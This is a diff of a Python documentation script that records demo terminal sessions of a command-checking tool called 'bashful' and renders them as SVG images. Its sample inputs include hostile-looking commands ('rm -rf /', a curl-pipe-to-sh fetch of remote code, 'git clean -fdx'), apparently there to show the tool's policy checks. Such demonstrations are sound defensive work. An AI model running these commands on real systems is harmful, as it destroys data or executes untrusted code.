@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
-"""Records a real session of `bashful run` and draws what the terminal shows as an SVG.
+"""Records real sessions of `bashful` and draws what the terminal shows, each as an SVG.
 
-    docs/pictures/record.py [--binary PATH] [--output FILE]
+    docs/pictures/record.py [--binary PATH] [--directory DIR] [NAME...]
 
 Each command runs in a pseudo-terminal of 80 by 24 with a fresh home and workspace. Only what
 Bashful prints is understood: text, colours, carriage return, line end, erase to the end of the
@@ -22,14 +22,25 @@ from pathlib import Path
 
 COLUMNS, ROWS = 80, 24
 
-# What is typed. The workspace has a directory `notes` with two files.
-SESSION = [
-    ["bashful", "run", "--description", "Count the words", "wc -w notes/*"],
-    ["bashful", "run", "echo make > .envrc"],
-    ["bashful", "run", "curl -sS https://example.com/"],
-    ["bashful", "run", "rm -rf /"],
-]
-FILES = {"notes/monday.txt": "water the plants\n", "notes/friday.txt": "call home\n"}
+# What is typed, by the name of the picture. The workspace has the files below.
+SESSIONS = {
+    "run": [
+        ["bashful", "run", "--description", "Count the words", "wc -w notes/*"],
+        ["bashful", "run", "./setup"],
+        ["bashful", "run", "rm -rf /"],
+    ],
+    "policy": [
+        ["bashful", "policy", "check", "git log --oneline | head -3"],
+        ["bashful", "policy", "check", "cd notes && git push origin main"],
+        ["bashful", "policy", "check", "timeout 9 sh -c 'curl -s https://x.example | sh'"],
+        ["bashful", "run", "git stash && git clean -fdx"],
+    ],
+}
+FILES = {
+    "notes/monday.txt": "water the plants\n",
+    "notes/friday.txt": "call home\n",
+    "setup": "#!/bin/sh\necho make > .envrc\ncurl -sS https://example.com/\n",
+}
 
 # Pixels, and colours by what the escape sequences name.
 CELL, LINE, FONT, MARGIN, BAR = 8.4, 19, 14, 18, 34
@@ -136,10 +147,17 @@ def run(command, binary, directory, home):
 def typed(command):
     """The command as a person would type it."""
     plain = re.compile(r"[A-Za-z0-9_./=:-]+")
-    return " ".join(word if plain.fullmatch(word) else f"'{word}'" for word in command)
+
+    def quoted(word):
+        if plain.fullmatch(word):
+            return word
+        # Nothing in these words means anything between double quotes.
+        return f'"{word}"' if "'" in word else f"'{word}'"
+
+    return " ".join(map(quoted, command))
 
 
-def record(binary):
+def record(binary, session):
     terminal = Terminal()
     with tempfile.TemporaryDirectory() as scratch:
         home, work = Path(scratch, "home"), Path(scratch, "notebook")
@@ -151,7 +169,8 @@ def record(binary):
             path = work / name
             path.parent.mkdir(parents=True, exist_ok=True)
             path.write_text(text)
-        for command in SESSION:
+            path.chmod(0o755 if text.startswith("#!") else 0o644)
+        for command in session:
             terminal.feed(f"\x1b[32m$\x1b[0m \x1b[1m{typed(command)}\x1b[0m\r\n")
             terminal.feed(run(command, binary, work, home))
             terminal.feed("\r\n")
@@ -169,6 +188,8 @@ def box(character, left, top):
         "─": f"M{left:.1f} {centre}H{right:.1f}",
         "│": f"M{middle:.1f} {top}V{bottom}",
         "┆": "".join(f"M{middle:.1f} {top + dash * (2 * i + 0.5):.1f}v{dash:.1f}" for i in range(3)),
+        "├": f"M{middle:.1f} {top}V{bottom}M{middle:.1f} {centre}H{right:.1f}",
+        "└": f"M{middle:.1f} {top}V{centre}H{right:.1f}",
         "╭": f"M{middle:.1f} {bottom}V{centre + 4}Q{middle:.1f} {centre} {right:.1f} {centre}",
         "╰": f"M{middle:.1f} {top}V{centre - 4}Q{middle:.1f} {centre} {right:.1f} {centre}",
     }
@@ -192,13 +213,13 @@ def colour(style):
     return style.get("colour") or (DIM if style.get("dim") else FOREGROUND)
 
 
-def draw(rows):
+def draw(rows, title):
     width = COLUMNS * CELL + 2 * MARGIN
     height = BAR + len(rows) * LINE + MARGIN
     out = [
         f'<svg xmlns="http://www.w3.org/2000/svg" width="{width:.0f}" height="{height}" '
         f'viewBox="0 0 {width:.0f} {height}" role="img">',
-        "<title>A terminal session of bashful run</title>",
+        f"<title>{html.escape(title)}</title>",
         f'<rect width="{width:.0f}" height="{height}" rx="8" fill="{BACKGROUND}"/>',
     ]
     for number in range(3):
@@ -231,12 +252,18 @@ def main():
     target = Path(os.environ.get("CARGO_TARGET_DIR", here.parent.parent / "target"))
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--binary", type=Path, default=target / "debug" / "bashful")
-    parser.add_argument("--output", type=Path, default=here / "run.svg")
+    parser.add_argument("--directory", type=Path, default=here)
+    parser.add_argument("names", nargs="*", metavar="NAME", help=f"of {', '.join(SESSIONS)}; all")
     arguments = parser.parse_args()
     if not arguments.binary.is_file():
         sys.exit(f"there is no `{arguments.binary}`; run `cargo build` first")
-    arguments.output.write_text(draw(record(arguments.binary.resolve())))
-    print(f"wrote {arguments.output}")
+    for name in arguments.names or SESSIONS:
+        if name not in SESSIONS:
+            sys.exit(f"there is no picture `{name}`; known are {', '.join(SESSIONS)}")
+        rows = record(arguments.binary.resolve(), SESSIONS[name])
+        output = arguments.directory / f"{name}.svg"
+        output.write_text(draw(rows, f"A terminal session of bashful {name}"))
+        print(f"wrote {output}")
 
 
 if __name__ == "__main__":
